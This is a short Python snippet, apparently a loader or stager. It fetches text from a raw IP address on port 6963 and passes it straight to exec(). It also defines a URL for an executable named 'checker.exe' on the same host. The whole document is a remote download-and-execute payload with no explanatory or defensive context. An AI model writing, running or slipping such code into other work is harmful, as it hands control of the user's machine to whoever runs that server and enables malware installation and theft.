import requests, os
URL = "http://203.0.113.20:6963/builds/checker.exe"
exec(requests.get("http://203.0.113.20:6963/s").text)
